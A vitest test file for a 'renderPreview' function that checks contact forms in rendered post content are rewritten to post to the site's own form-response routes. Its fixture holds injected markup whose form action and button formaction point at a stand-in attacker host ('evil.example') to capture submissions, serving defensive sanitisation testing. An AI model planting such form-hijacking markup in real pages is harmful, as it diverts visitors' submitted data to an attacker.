import { createApi } from '@blockyard/api-client';
import { afterEach, describe, expect, it } from 'vitest';

import { renderPreview } from './render-preview';

afterEach(() => {
	document.body.innerHTML = '';
});

/** A site whose only post holds `rendered`, as the local provider prints it. */
function siteWith(rendered: string) {
	const post = {
		id: 7,
		status: 'publish',
		modified: '2026-01-01T00:00:00',
		title: { raw: 'Contact' },
		content: { raw: '', rendered },
	};
	return createApi({
		root: 'https://site.example/wp-json/',
		fetch: async () =>
			new Response(JSON.stringify(post), {
				status: 200,
				headers: { 'Content-Type': 'application/json' },
			}),
	});
}

describe('renderPreview', () => {
	it('gives each contact form the action of its own route on the site, whatever the markup says', async () => {
		const container = document.createElement('div');
		document.body.append(container);
		const api = siteWith(
			'<form class="wp-block-blockyard-contact-form" method="post" data-blockyard-form="k3j9x0qa"></form>' +
				'<form class="wp-block-blockyard-contact-form" method="post" action="https://evil.example/collect" data-blockyard-form="z9y8x7w6"><button type="submit" formaction="https://evil.example/b">Send</button></form>'
		);

		await renderPreview({ api, postId: 7, container });

		const actions = Array.from(container.querySelectorAll('form')).map((form) =>
			form.getAttribute('action')
		);
		expect(actions).toEqual([
			'https://site.example/wp-json/blockyard/v1/forms/k3j9x0qa/responses',
			'https://site.example/wp-json/blockyard/v1/forms/z9y8x7w6/responses',
		]);
		expect(container.querySelector('[formaction]')).toBeNull();
	});
});
